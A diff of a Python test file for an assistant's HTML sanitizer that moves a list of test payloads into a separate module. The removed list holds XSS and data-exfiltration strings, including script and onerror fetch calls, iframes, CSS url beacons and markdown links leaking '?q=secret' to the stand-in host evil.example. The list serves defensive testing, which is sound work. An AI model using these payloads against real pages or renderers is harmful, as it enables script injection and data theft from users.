@@ -13,6 +13,7 @@ from pathlib import Path
 import nh3
 import pytest
 from conftest import NOW, provenance, question
+from payloads import PAYLOADS
 
 from assistant.knowledge import shipped
 from assistant.schema import (
@@ -245,16 +246,6 @@ def test_a_strangers_text_is_shown_as_its_characters(text: str) -> None:
     assert "\n" not in made
     assert "$" not in made
     assert html.unescape(re.fullmatch(r'<div class="exact">(.*)</div>', made)[1]) == text.replace("\r", "")  # type: ignore[index]
-
-
-PAYLOADS = [
-    "![x](http://evil.example/a.png)", "<img src=http://evil.example/a.png>", "<img src=x onerror=fetch('http://evil.example')>", "<script>fetch('http://evil.example')</script>",
-    "<svg onload=fetch('http://evil.example')>", "<iframe src=http://evil.example></iframe>", "[a](javascript:alert(1))", "<style>*{background:url(http://evil.example)}</style><p style='background:url(http://evil.example)'>x</p>",
-    "<video src=http://evil.example autoplay></video>", "[a](http://evil.example/?q=secret)", "![x][r]\n\n[r]: http://evil.example/a.png", "<img srcset='http://evil.example/a 2x'>",
-    "<picture><source srcset=http://evil.example/a></picture>", "<object data=http://evil.example></object><embed src=http://evil.example>", "<form action=http://evil.example><button>x</button></form>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example'><link rel=stylesheet href=http://evil.example><base href=http://evil.example>", "<details open ontoggle=fetch('http://evil.example')>x</details>",
-    "$$\\href{http://evil.example}{x}$$ \\(\\includegraphics{http://evil.example/a.png}\\)", "```mermaid\ngraph TD; A[\"<img src=http://evil.example>\"]-->B\nclick A href \"http://evil.example\"\n```", "<http://evil.example/auto>", "www.evil.example http://evil.example",
-]  # fmt: skip
 
 
 @pytest.mark.parametrize("shipped_text", [False, True])
